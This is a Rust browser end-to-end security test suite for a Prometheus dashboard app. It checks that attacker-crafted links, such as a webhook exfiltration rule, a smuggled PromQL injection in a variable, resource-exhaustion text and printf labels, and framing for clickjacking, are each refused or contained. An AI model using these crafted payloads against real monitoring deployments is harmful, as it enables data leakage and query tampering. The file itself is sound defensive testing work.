//! Links written by an attacker, opened in a real browser against a real
//! Prometheus with the generated history and the release build (under its
//! Content-Security-Policy): each gets its safe outcome. The exfiltration
//! link sends nothing until accepted; the crash and hang links leave a message
//! where the content would have been and a working page; a forged variable
//! value is refused.

use e2e::browser_session::{BrowserSession, TempDir, PAGE_WAIT};
use e2e::prometheus_fixture::PrometheusFixture;
use e2e::static_file_server::StaticFileServer;
use e2e::webhook_receiver::start_receiver;
use e2e::{artifacts_dir, dist_dir};
use foresight_core::model::dashboard::Dashboard;
use foresight_core::model::datasource::encode_uri_component;
use foresight_core::model::inline_dashboard::encode_inline_dashboard;
use serde_json::{json, Value};
use std::time::{Duration, Instant};

/// A dashboard from JSON written the way an attacker would write it.
fn crafted(value: Value) -> Dashboard {
    Dashboard::from_json(&value.to_string()).unwrap()
}

fn inline_link(
    site: &StaticFileServer,
    datasource: &str,
    dashboard: &Dashboard,
    rest: &str,
) -> String {
    format!(
        "{}?inline={}&datasource={}{rest}",
        site.url(),
        encode_inline_dashboard(dashboard),
        encode_uri_component(datasource)
    )
}

/// The page is alive: the WebAssembly instance answers (a click changes the
/// DOM), no uncaught error, no crash message.
/// The viewer answered the banner; editing or saving the dashboard does not ask again.
async fn assert_trust_banner_gone(browser: &BrowserSession, when: &str) {
    let banner = browser
        .script("const b = document.querySelector('[data-testid=\"trust-banner\"]'); return b ? b.textContent : null;")
        .await
        .unwrap();
    assert_eq!(banner, Value::Null, "the trust banner asked again {when}");
}

async fn assert_page_alive(browser: &BrowserSession, what: &str) {
    let errors = browser
        .script("return window.foresightErrors;")
        .await
        .unwrap();
    assert_eq!(errors, json!([]), "{what}: uncaught errors");
    let crashed = browser
        .script("return !!document.querySelector('[data-testid=\"crash\"]');")
        .await
        .unwrap();
    assert_eq!(crashed, json!(false), "{what}: the crash message is shown");
    browser
        .click(r#"[data-testid="alerts-view"] summary"#)
        .await
        .unwrap();
    let opened = browser
        .script("return document.querySelector('[data-testid=\"alerts-view\"]').open;")
        .await
        .unwrap();
    browser
        .click(r#"[data-testid="alerts-view"] summary"#)
        .await
        .unwrap();
    let closed = browser
        .script("return document.querySelector('[data-testid=\"alerts-view\"]').open;")
        .await
        .unwrap();
    assert_ne!(opened, closed, "{what}: the page no longer reacts");
}

async fn settled(browser: &BrowserSession) -> Vec<(String, String)> {
    browser.settled_panels().await.unwrap()
}

fn one_panel(id: &str, panel: Value) -> Value {
    json!({
        "schemaVersion": 1, "id": id, "title": format!("Probe {id}"),
        "time": {"from": "now-1h", "to": "now"},
        "panels": [panel, {"id": "up", "title": "Up", "type": "stat", "targets": [{"expr": "count(up)"}]}],
        "layout": [{"panel": panel["id"], "x": 0, "y": 0, "w": 12, "h": 8}, {"panel": "up", "x": 12, "y": 0, "w": 12, "h": 8}]
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_links_neither_leak_nor_kill_nor_forge() {
    let artifacts = artifacts_dir();
    let work = TempDir::new("foresight-e2e-probes");
    let prometheus = PrometheusFixture::start(&work.0, None, None, &artifacts).unwrap();
    let datasource = prometheus.base_url();
    let site = StaticFileServer::start(&dist_dir()).unwrap();
    let browser = BrowserSession::start(&artifacts, "probes").await.unwrap();

    // 1. Exfiltration: a rule that always fires, a webhook outside the page's host.
    let receiver = start_receiver(200).await;
    let outside = receiver.url.replace("127.0.0.1", "localhost");
    let leak = crafted(json!({
        "schemaVersion": 1, "id": "service-health", "title": "Service health",
        "panels": [{"id": "up", "title": "Up", "type": "stat", "targets": [{"expr": "count(up)"}]}],
        "layout": [{"panel": "up", "x": 0, "y": 0, "w": 24, "h": 8}],
        "alerts": [{"name": "Leak", "expr": "up", "condition": {"kind": "threshold", "op": ">", "value": -1}, "interval": "1s"}],
        "notify": {"webhooks": [outside]}
    }));
    browser
        .client
        .goto(&inline_link(&site, &datasource, &leak, "&refresh=1s"))
        .await
        .unwrap();
    let banner = browser
        .wait_for_text(r#"[data-testid="trust-banner"]"#, "send firing alerts")
        .await
        .unwrap();
    assert!(banner.contains(&outside), "{banner}");
    assert!(banner.contains("evaluate 1 alert rule"), "{banner}");
    assert!(banner.contains("refresh every 1 s"), "{banner}");
    // Even a request made by the page itself cannot reach an unconfirmed origin.
    let blocked = browser
        .client
        .execute_async(
            "const done = arguments[arguments.length - 1];
             fetch(arguments[0], {method: 'POST', body: 'x'}).then(() => done('sent'), (e) => done('blocked: ' + e));",
            vec![json!(outside)],
        )
        .await
        .unwrap();
    assert!(
        blocked.as_str().unwrap_or_default().starts_with("blocked"),
        "{blocked}"
    );
    tokio::time::sleep(Duration::from_secs(6)).await;
    assert_eq!(
        receiver.bodies.lock().unwrap().len(),
        0,
        "sent before the viewer accepted"
    );
    browser
        .save_screenshot(&artifacts.join("probe-exfiltration-banner.png"))
        .await
        .unwrap();
    // Opened without its extras: still nothing is sent, and no banner any more.
    browser
        .click(r#"[data-action="decline-dashboard"]"#)
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_secs(4)).await;
    assert_eq!(
        receiver.bodies.lock().unwrap().len(),
        0,
        "sent after 'Open without these'"
    );
    assert_page_alive(&browser, "exfiltration declined").await;
    // Edited and saved without accepting, it is saved as it was shown: saved,
    // it would be trusted, and its rule would notify the outside address.
    browser.click(r#"[data-action="edit"]"#).await.unwrap();
    let editing = browser
        .wait_for_text(
            r#"[data-testid="notice"]"#,
            "without what you did not accept",
        )
        .await
        .unwrap();
    assert!(editing.contains("1 alert rule"), "{editing}");
    assert!(editing.contains("1 notification target"), "{editing}");
    assert_trust_banner_gone(&browser, "after Edit").await;
    browser.click(r#"[data-action="save"]"#).await.unwrap();
    browser
        .wait_for_text(r#"[data-testid="notice"]"#, "Saved")
        .await
        .unwrap();
    let stored = browser
        .script(
            "const saved = JSON.parse(localStorage.getItem('foresight.saved.service-health'));
             return [saved.alerts || [], saved.notify || {}, localStorage.getItem('foresight.confirmed-origins')];",
        )
        .await
        .unwrap();
    assert_eq!(stored[0], json!([]), "the rule was saved: {stored}");
    assert!(
        !stored.to_string().contains("localhost"),
        "the outside address was saved or confirmed: {stored}"
    );
    browser.click(r#"[data-action="done"]"#).await.unwrap();
    tokio::time::sleep(Duration::from_secs(4)).await;
    assert_eq!(
        receiver.bodies.lock().unwrap().len(),
        0,
        "sent after saving a dashboard nobody accepted"
    );
    // The viewer's answer about the link's own `refresh=` holds for the saved dashboard.
    assert_trust_banner_gone(&browser, "after saving").await;
    assert_page_alive(&browser, "saved without accepting").await;
    // A pasted dashboard left unaccepted is saved the same way, and no undo
    // brings its extras back into what is trusted from then on.
    let mut pasted = serde_json::from_str::<Value>(&leak.to_json()).unwrap();
    pasted["id"] = json!("pasted-leak");
    browser.paste_import(&pasted.to_string()).await.unwrap();
    browser
        .click(r#"[data-field="open-imported"]"#)
        .await
        .unwrap();
    browser
        .wait_for_text(r#"[data-testid="trust-banner"]"#, "send firing alerts")
        .await
        .unwrap();
    browser.click(r#"[data-action="save"]"#).await.unwrap();
    let saved = browser
        .wait_for_text(
            r#"[data-testid="notice"]"#,
            "without what you did not accept",
        )
        .await
        .unwrap();
    assert!(saved.contains("1 alert rule"), "{saved}");
    let after = browser
        .script(
            "return [JSON.parse(localStorage.getItem('foresight.saved.pasted-leak')).alerts || [],
                     document.querySelector('[data-action=\"undo\"]').disabled];",
        )
        .await
        .unwrap();
    assert_eq!(
        after,
        json!([[], true]),
        "saved whole, or undo can bring it back"
    );
    browser.click(r#"[data-action="done"]"#).await.unwrap();
    tokio::time::sleep(Duration::from_secs(4)).await;
    assert_eq!(
        receiver.bodies.lock().unwrap().len(),
        0,
        "sent after saving a paste"
    );
    // A link with the id of a dashboard saved here replaces it on Save only
    // when the viewer says so; declined, the saved one stays as it was.
    let forged = crafted(json!({
        "schemaVersion": 1, "id": "pasted-leak", "title": "Forged",
        "panels": [{"id": "up", "title": "Up", "type": "stat", "targets": [{"expr": "count(up)"}]}],
        "layout": [{"panel": "up", "x": 0, "y": 0, "w": 24, "h": 8}]
    }));
    browser
        .client
        .goto(&inline_link(&site, &datasource, &forged, ""))
        .await
        .unwrap();
    browser
        .wait_for_text(r#"[data-testid="dashboard-title"]"#, "Forged")
        .await
        .unwrap();
    browser.click(r#"[data-action="edit"]"#).await.unwrap();
    browser
        .wait_for_count(r#"[data-action="save"]"#)
        .await
        .unwrap();
    // The click opens the browser's question, which swallows the click
    // script's answer: what matters is the question below.
    let _ = browser.click(r#"[data-action="save"]"#).await;
    let question = browser.client.get_alert_text().await.unwrap();
    assert!(question.contains("has the same id"), "{question}");
    browser.client.dismiss_alert().await.unwrap();
    browser
        .wait_for_text(r#"[data-testid="notice"]"#, "Not saved")
        .await
        .unwrap();
    let kept = browser
        .script("return JSON.parse(localStorage.getItem('foresight.saved.pasted-leak')).title;")
        .await
        .unwrap();
    assert_eq!(
        kept,
        json!("Service health"),
        "the link replaced a saved dashboard"
    );

    // A link that switches the shipped dashboard to another host's datasource
    // asks first, and meanwhile reads the one in use.
    let elsewhere = datasource.replace("127.0.0.1", "localhost");
    browser
        .client
        .goto(&format!(
            "{}?dashboard=instances&datasource={}",
            site.url(),
            encode_uri_component(&elsewhere)
        ))
        .await
        .unwrap();
    let banner = browser
        .wait_for_text(r#"[data-testid="trust-banner"]"#, "read its data from")
        .await
        .unwrap();
    assert!(banner.contains(&elsewhere), "{banner}");
    let used = browser
        .wait_for_text(r#"[data-testid="datasource-url"]"#, "127.0.0.1")
        .await
        .unwrap();
    assert!(
        !used.contains("localhost"),
        "the unconfirmed datasource is used: {used}"
    );
    settled(&browser).await;
    assert_page_alive(&browser, "datasource switch").await;

    // 2. A time range from now to now: the default range with a message.
    browser
        .client
        .goto(&format!(
            "{}?datasource={}&from=now&to=now",
            site.url(),
            encode_uri_component(&datasource)
        ))
        .await
        .unwrap();
    browser
        .wait_for_text(".url-problems", "empty or reversed")
        .await
        .unwrap();
    let states = settled(&browser).await;
    assert!(states.iter().all(|(_, s)| s != "error"), "{states:?}");
    assert_page_alive(&browser, "now to now").await;
    // The same inside a dashboard whose own default is empty too: the last hour.
    let mut empty_default = one_panel(
        "range",
        json!({"id": "text", "title": "T", "type": "text", "content": "hello"}),
    );
    empty_default["time"] = json!({"from": "now", "to": "now"});
    browser
        .client
        .goto(&inline_link(
            &site,
            &datasource,
            &crafted(empty_default),
            "&from=now&to=now",
        ))
        .await
        .unwrap();
    browser
        .wait_for_text(".url-problems", "showing the last hour")
        .await
        .unwrap();
    assert_page_alive(&browser, "empty default range").await;

    // 3. A threshold colour of 7 bytes with a non-ASCII letter.
    let colour = one_panel(
        "colour",
        json!({"id": "stat", "title": "Colour", "type": "stat", "targets": [{"expr": "count(up)"}],
               "thresholds": [{"value": null, "color": "#aébcd"}, {"value": 0, "color": "#aébcd"}]}),
    );
    browser
        .client
        .goto(&inline_link(&site, &datasource, &crafted(colour), ""))
        .await
        .unwrap();
    let states = settled(&browser).await;
    assert!(
        states.contains(&("stat".to_string(), "ok".to_string())),
        "{states:?}"
    );
    assert_page_alive(&browser, "threshold colour").await;

    // 4. An alert rule label that would print 70,000 digits, accepted by the viewer.
    let printf = crafted(json!({
        "schemaVersion": 1, "id": "printf", "title": "Printf",
        "panels": [{"id": "up", "title": "Up", "type": "stat", "targets": [{"expr": "count(up)"}]}],
        "layout": [{"panel": "up", "x": 0, "y": 0, "w": 24, "h": 8}],
        "alerts": [{"name": "Wide", "expr": "count(up)", "condition": {"kind": "threshold", "op": ">", "value": -1},
                    "interval": "15s", "labels": {"digits": "{{ printf \"%.70000f\" $value }}"}}]
    }));
    browser
        .client
        .goto(&inline_link(&site, &datasource, &printf, ""))
        .await
        .unwrap();
    browser.accept_dashboard().await.unwrap();
    browser
        .wait_for_count(r#"[data-alert-rule="Wide"]"#)
        .await
        .unwrap();
    // Evaluated at once and every 15 s: give it two evaluations.
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_page_alive(&browser, "printf").await;

    // 5. A text panel of 2,000,000 '[' (a link of a few KB): rendered in bounded time.
    let brackets = one_panel(
        "brackets",
        json!({"id": "text", "title": "Brackets", "type": "text", "content": "[".repeat(2_000_000)}),
    );
    let link = inline_link(&site, &datasource, &crafted(brackets), "");
    assert!(link.len() < 20_000, "the link is {} characters", link.len());
    browser.client.goto(&link).await.unwrap();
    browser
        .wait_for_text(
            r#"[data-testid="text-cut"]"#,
            "longer than 100000 characters",
        )
        .await
        .unwrap();
    let states = settled(&browser).await;
    assert!(
        states.contains(&("up".to_string(), "ok".to_string())),
        "{states:?}"
    );
    assert_page_alive(&browser, "brackets").await;

    // 6. A forged quantile on the shipped dashboard: refused, the picker and the panel agree.
    let forged = "0.99,vector(0)) or label_replace(vector(42),\"le\",\"x\",\"\",\"\") or histogram_quantile(0.99";
    browser
        .client
        .goto(&format!(
            "{}?dashboard=instances&datasource={}&var-quantile={}",
            site.url(),
            encode_uri_component(&datasource),
            encode_uri_component(forged)
        ))
        .await
        .unwrap();
    let note = browser
        .wait_for_text(r#"[data-testid="variable-notes"]"#, "$quantile")
        .await
        .unwrap();
    assert!(note.contains("not among its values"), "{note}");
    settled(&browser).await;
    let query = browser
        .attribute(
            r#"[data-panel="latency-quantile-by-endpoint"]"#,
            "data-query",
        )
        .await
        .unwrap();
    assert!(query.starts_with("histogram_quantile(0.95,"), "{query}");
    assert!(!query.contains("vector(42)"), "{query}");
    let picked = browser
        .script("return document.querySelector('select[data-variable=\"quantile\"]').value;")
        .await
        .unwrap();
    assert_eq!(picked, json!("0.95"), "the picker and the panel disagree");
    assert_page_alive(&browser, "forged quantile").await;

    // 7. The crash guard: a dead WebAssembly instance becomes a message with ways out.
    browser
        .script(
            "window.dispatchEvent(new ErrorEvent('error', {error: new WebAssembly.RuntimeError('unreachable'), message: 'RuntimeError: unreachable'})); return true;",
        )
        .await
        .unwrap();
    let crash = browser
        .wait_for_text(r#"[data-testid="crash"]"#, "Foresight hit a bug")
        .await
        .unwrap();
    assert!(crash.contains("Open the default view"), "{crash}");
    let policy = browser
        .script("return document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content;")
        .await
        .unwrap();
    assert!(
        policy
            .as_str()
            .unwrap_or_default()
            .contains("script-src 'self' 'wasm-unsafe-eval'"),
        "{policy}"
    );

    // Accepting the exfiltration link in a fresh tab is what lets it send
    // (this tab's answers are kept in its session storage: a fresh tab has none).
    browser
        .script("sessionStorage.clear(); return true;")
        .await
        .unwrap();
    browser
        .client
        .goto(&inline_link(&site, &datasource, &leak, ""))
        .await
        .unwrap();
    // Another tab confirms an origin after this one started: accepting here
    // adds to what is stored, it does not write back what this tab read.
    browser
        .script(
            "const c = JSON.parse(localStorage.getItem('foresight.confirmed-origins') || '{}');
             c.datasources = (c.datasources || []).concat(['http://other-tab.example:9090']);
             localStorage.setItem('foresight.confirmed-origins', JSON.stringify(c));
             return true;",
        )
        .await
        .unwrap();
    browser.accept_dashboard().await.unwrap();
    let deadline = Instant::now() + PAGE_WAIT;
    while receiver.bodies.lock().unwrap().is_empty() {
        assert!(
            Instant::now() < deadline,
            "the accepted rule never notified"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let stored = browser
        .script("return localStorage.getItem('foresight.confirmed-origins');")
        .await
        .unwrap();
    assert!(
        stored
            .as_str()
            .unwrap_or_default()
            .contains("other-tab.example"),
        "accepting lost another tab's confirmation: {stored}"
    );
    // Stored silences that cannot be read (damaged, or written by another
    // version) are said, and their text is kept before anything overwrites it.
    browser
        .script(
            "localStorage.setItem('foresight.silences.link.service-health', '[{broken'); location.reload(); return true;",
        )
        .await
        .unwrap();
    let unreadable = browser
        .wait_for_text(
            r#"[data-testid="alert-storage-unreadable"]"#,
            "could not be read",
        )
        .await
        .unwrap();
    assert!(unreadable.contains("foresight.unreadable."), "{unreadable}");
    let kept = browser
        .script("return localStorage.getItem('foresight.unreadable.foresight.silences.link.service-health');")
        .await
        .unwrap();
    assert_eq!(kept, json!("[{broken"));
    // The confirmed origin is listed, and can be forgotten.
    let origin = outside.trim_end_matches("/hook").to_string();
    let listed = format!(r#"[data-confirmed="notification"][data-origin="{origin}"]"#);
    browser.wait_for_count(&listed).await.unwrap();
    browser.click(&format!("{listed} button")).await.unwrap();
    let deadline = Instant::now() + PAGE_WAIT;
    loop {
        let stored = browser
            .script("return localStorage.getItem('foresight.confirmed-origins') || '';")
            .await
            .unwrap_or_default();
        if !stored.as_str().unwrap_or("?").contains(&origin) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the origin was never forgotten: {stored}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// Inside another site's frame the app does not start: a page that frames it
/// could lure the viewer's clicks onto Accept. Served by Prometheus itself
/// under `/user/`, the page cannot refuse framing by a header.
#[tokio::test(flavor = "multi_thread")]
async fn framed_by_another_site_the_app_does_not_start() {
    let artifacts = artifacts_dir();
    let work = TempDir::new("foresight-e2e-framed");
    let prometheus =
        PrometheusFixture::start(&work.0, None, Some(&dist_dir()), &artifacts).unwrap();
    let app = format!("{}/user/?dashboard=instances", prometheus.base_url());
    let framing = TempDir::new("foresight-e2e-framing");
    std::fs::write(
        framing.0.join("index.html"),
        format!(
            r#"<!DOCTYPE html><html><body><iframe src="{app}" width="900" height="600"></iframe></body></html>"#
        ),
    )
    .unwrap();
    let framer = StaticFileServer::start(&framing.0).unwrap();
    let browser = BrowserSession::start(&artifacts, "framed").await.unwrap();
    // On its own, the same address starts.
    browser.client.goto(&app).await.unwrap();
    browser
        .wait_for_count(r#"[data-testid="dashboard-title"]"#)
        .await
        .unwrap();
    browser.client.goto(&framer.url()).await.unwrap();
    tokio::time::sleep(Duration::from_secs(6)).await;
    browser.client.enter_frame(0).await.unwrap();
    let inside = browser
        .script(
            "return [location.href, document.querySelectorAll('[data-testid=\"dashboard-title\"], [data-action]').length];",
        )
        .await
        .unwrap();
    assert!(
        inside[0]
            .as_str()
            .unwrap_or_default()
            .contains("dashboard=instances"),
        "the frame did not load the app: {inside}"
    );
    assert_eq!(
        inside[1],
        json!(0),
        "the app started inside a frame: {inside}"
    );
}

/// What a link may not borrow from a dashboard shipped or saved here: its
/// rules run on another server's data (a `datasource=` the viewer confirmed
/// once) where they would notify or act, its alert state and history, or its
/// evaluation lock while the link sits unanswered; nor may a dashboard from a
/// link pass for a shipped one, or send to a target on a confirmed origin
/// without naming it.
#[tokio::test(flavor = "multi_thread")]
async fn links_cannot_borrow_a_trusted_dashboards_alerting() {
    let artifacts = artifacts_dir();
    let work = TempDir::new("foresight-e2e-borrow");
    let prometheus = PrometheusFixture::start(&work.0, None, None, &artifacts).unwrap();
    let home = prometheus.base_url();
    // The same server under another name the viewer confirmed: another server to the page.
    let elsewhere = home.replace("127.0.0.1", "localhost");
    let site = StaticFileServer::start(&dist_dir()).unwrap();
    let browser = BrowserSession::start(&artifacts, "probes-borrow")
        .await
        .unwrap();
    let receiver = start_receiver(200).await;
    let target_origin = receiver.url.trim_end_matches("/hook").to_string();
    let outside_origin = target_origin.replace("127.0.0.1", "localhost");
    let mine = json!({
        "schemaVersion": 1, "id": "mine", "title": "Mine",
        "panels": [{"id": "up", "title": "Up", "type": "stat", "targets": [{"expr": "count(up)"}]}],
        "layout": [{"panel": "up", "x": 0, "y": 0, "w": 24, "h": 8}],
        "alerts": [{"name": "AlwaysUp", "expr": "count(up)", "condition": {"kind": "threshold", "op": ">", "value": 0}, "interval": "5s"}],
        "notify": {"webhooks": [receiver.url]}
    });
    // The saved dashboard read from `server`.
    let mine_on = |server: &str| {
        format!(
            "{}?saved=mine&datasource={}",
            site.url(),
            encode_uri_component(server)
        )
    };
    browser
        .client
        .goto(&format!("{}not-the-app", site.url()))
        .await
        .unwrap();
    browser
        .script(&format!(
            "localStorage.setItem('foresight.confirmed-origins', {});
             localStorage.setItem('foresight.saved.mine', {});
             localStorage.setItem('foresight.alert-homes', {});
             return null;",
            json!(json!({"datasources": [elsewhere], "notificationTargets": [target_origin, outside_origin]}).to_string()),
            json!(mine.to_string()),
            // As saving it while reading that server writes.
            json!(json!({"homes": {"saved.mine": home}}).to_string()),
        ))
        .await
        .unwrap();
    let held_alert_locks = "return navigator.locks.query().then(({ held }) => \
        held.map((l) => l.name).filter((n) => n.startsWith('foresight-alerts:')));";
    let wait_for_deliveries = |what: &'static str| {
        let bodies = receiver.bodies.clone();
        async move {
            let deadline = Instant::now() + Duration::from_secs(60);
            while bodies.lock().unwrap().is_empty() {
                assert!(Instant::now() < deadline, "no notification {what}");
                tokio::time::sleep(Duration::from_millis(250)).await;
            }
        }
    };

    // At home (the server it was saved on): its rule fires and notifies
    // without a question.
    browser.client.goto(&mine_on(&home)).await.unwrap();
    browser
        .wait_for_count(r#"[data-testid="dashboard-title"]"#)
        .await
        .unwrap();
    wait_for_deliveries("at home").await;
    assert_trust_banner_gone(&browser, "at home").await;

    // Away: the same dashboard on another server's data asks first, and
    // until answered evaluates nothing, holds no lock and sends nothing.
    receiver.bodies.lock().unwrap().clear();
    browser.client.goto(&mine_on(&elsewhere)).await.unwrap();
    let banner = browser
        .wait_for_text(r#"[data-testid="trust-banner"]"#, "from now on, instead of")
        .await
        .unwrap();
    assert!(
        banner.contains(&format!(
            "on the data of {elsewhere} from now on, instead of {home}"
        )) && banner.contains(&receiver.url)
            && banner.starts_with("This link asks for more than drawing this dashboard."),
        "{banner}"
    );
    browser
        .save_screenshot(&artifacts.join("probe-rules-away-from-home.png"))
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_secs(6)).await;
    assert_eq!(browser.script(held_alert_locks).await.unwrap(), json!([]));
    assert!(
        receiver.bodies.lock().unwrap().is_empty(),
        "sent before the viewer accepted"
    );
    // Accepted, the rules run there from now on: their home moved, and a new
    // tab on that server is not asked again.
    browser
        .click(r#"[data-action="accept-dashboard"]"#)
        .await
        .unwrap();
    wait_until_true(
        &browser,
        "return navigator.locks.query().then(({ held }) => held.some((l) => l.name.startsWith('foresight-alerts:saved.mine.')));",
        "the accepted rules are evaluated under the dashboard's own state",
    )
    .await;
    let homes = browser
        .script("return JSON.parse(localStorage.getItem('foresight.alert-homes'));")
        .await
        .unwrap();
    assert_eq!(homes, json!({"homes": {"saved.mine": elsewhere}}));
    let second = browser.client.new_window(true).await.unwrap();
    browser
        .client
        .switch_to_window(second.handle)
        .await
        .unwrap();
    browser.client.goto(&mine_on(&elsewhere)).await.unwrap();
    browser
        .wait_for_count(r#"[data-testid="dashboard-title"]"#)
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_trust_banner_gone(&browser, "in a new tab at the new home").await;
    browser.client.close_window().await.unwrap();
    let first = browser.client.windows().await.unwrap().remove(0);
    browser.client.switch_to_window(first).await.unwrap();

    // Rules that reach nothing outside run away from home without a question,
    // with state of their own: the history at home is not written.
    browser
        .client
        .goto(&format!(
            "{}?dashboard=service-health&datasource={}",
            site.url(),
            encode_uri_component(&home)
        ))
        .await
        .unwrap();
    wait_until_true(
        &browser,
        "return Object.keys(localStorage).some((k) => k.startsWith('foresight.alert-history.shipped@'));",
        "the shipped dashboard's rules, away from home, keep a history of their own",
    )
    .await;
    let at_home_written = browser
        .script(
            "return Object.keys(localStorage).filter((k) => k.startsWith('foresight.alert-history.shipped.') \
             || k.startsWith('foresight.alert-state.shipped.'));",
        )
        .await
        .unwrap();
    assert_eq!(at_home_written, json!([]));

    // A link left unanswered holds no evaluation lock of the shipped dashboard it shows.
    browser
        .client
        .goto(&format!(
            "{}?dashboard=service-health&datasource={}&refresh=1s",
            site.url(),
            encode_uri_component(&home)
        ))
        .await
        .unwrap();
    browser
        .wait_for_text(r#"[data-testid="trust-banner"]"#, "refresh every 1 s")
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        browser.script(held_alert_locks).await.unwrap(),
        json!([]),
        "an unanswered link holds the dashboard's evaluation lock"
    );

    // A dashboard from a link, written to look shipped, says where it came
    // from, names a target on a confirmed origin, and is not the shipped one
    // in the picker.
    let lookalike = crafted(json!({
        "schemaVersion": 1, "id": "service-health", "title": "Service health",
        "panels": [{"id": "up", "title": "Up", "type": "stat", "targets": [{"expr": "count(up)"}]}],
        "layout": [{"panel": "up", "x": 0, "y": 0, "w": 24, "h": 8}],
        "alerts": [{"name": "Probe", "expr": "up", "condition": {"kind": "threshold", "op": ">", "value": -1}}],
        "notify": {"webhooks": [format!("{outside_origin}/ATTACKER-topic")]}
    }));
    browser
        .client
        .goto(&inline_link(&site, &home, &lookalike, ""))
        .await
        .unwrap();
    let banner = browser
        .wait_for_text(r#"[data-testid="trust-banner"]"#, "evaluate 1 alert rule")
        .await
        .unwrap();
    assert!(banner.contains("/ATTACKER-topic"), "{banner}");
    assert_eq!(
        browser.text(r#"[data-testid="provenance"]"#).await.unwrap(),
        "from a link, not saved here"
    );
    browser
        .save_screenshot(&artifacts.join("probe-lookalike-from-a-link.png"))
        .await
        .unwrap();
    let picked = browser
        .script("return document.querySelector('[data-testid=\"dashboard-picker\"]').value;")
        .await
        .unwrap();
    assert_eq!(
        picked,
        json!(""),
        "the link passes for the shipped dashboard"
    );
    browser.client.close().await.unwrap();
}

/// Polls `script` until it returns true; fails with `what` after 30 s.
async fn wait_until_true(browser: &BrowserSession, script: &str, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while browser.script(script).await != Ok(json!(true)) {
        assert!(Instant::now() < deadline, "never: {what}");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}
